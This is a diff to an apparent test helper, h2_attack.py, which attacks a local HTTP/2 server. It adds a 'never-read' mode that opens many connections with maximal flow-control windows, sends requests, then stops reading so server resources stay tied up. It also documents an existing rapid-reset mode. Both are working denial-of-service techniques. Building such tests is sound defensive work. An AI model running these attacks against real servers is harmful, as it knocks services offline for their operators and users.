@@ -10,6 +10,11 @@ set to send whatever it is given (no header validation or normalization).
   h2_attack.py rapid-reset PORT N PATH
       N times: HEADERS then RST_STREAM(CANCEL) at once; prints
       {"sent": n, "goaway": code or null, "closed": bool}
+  h2_attack.py never-read PORT CONNS N PATH
+      CONNS connections, each advertising 2^31-1 flow-control windows and
+      opening N streams of PATH, then reading nothing more; prints
+      {"opened": k} once every request is sent, and closes them all when
+      its stdin closes
 """
 import json
 import socket
@@ -156,6 +161,37 @@ def rapid_reset(port, n, path):
     sock.close()
 
 
+def never_read(port, conns, n, path):
+    socks = []
+    for _ in range(conns):
+        sock = socket.create_connection(("127.0.0.1", port), timeout=5)
+        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
+        conn = h2.connection.H2Connection(config=config)
+        conn.local_settings = h2.settings.Settings(
+            client=True,
+            initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 2**31 - 1},
+        )
+        conn.initiate_connection()
+        conn.increment_flow_control_window(2**31 - 1 - 65535)
+        for i in range(n):
+            sid = conn.get_next_available_stream_id()
+            conn.send_headers(sid, base_headers(path), end_stream=True)
+        sock.sendall(conn.data_to_send())
+        # The server's SETTINGS must be acknowledged for the windows to hold.
+        sock.settimeout(2)
+        try:
+            data = sock.recv(65536)
+            conn.receive_data(data)
+            sock.sendall(conn.data_to_send())
+        except (OSError, h2.exceptions.ProtocolError):
+            pass
+        socks.append(sock)
+    print(json.dumps({"opened": conns * n}), flush=True)
+    sys.stdin.read()
+    for sock in socks:
+        sock.close()
+
+
 if __name__ == "__main__":
     import h2.settings  # noqa: F401  (streams() pokes at the settings)
     mode, port = sys.argv[1], int(sys.argv[2])
@@ -163,5 +199,7 @@ if __name__ == "__main__":
         requests(port)
     elif mode == "streams":
         streams(port, int(sys.argv[3]), sys.argv[4])
+    elif mode == "never-read":
+        never_read(port, int(sys.argv[3]), int(sys.argv[4]), sys.argv[5])
     else:
         rapid_reset(port, int(sys.argv[3]), sys.argv[4])
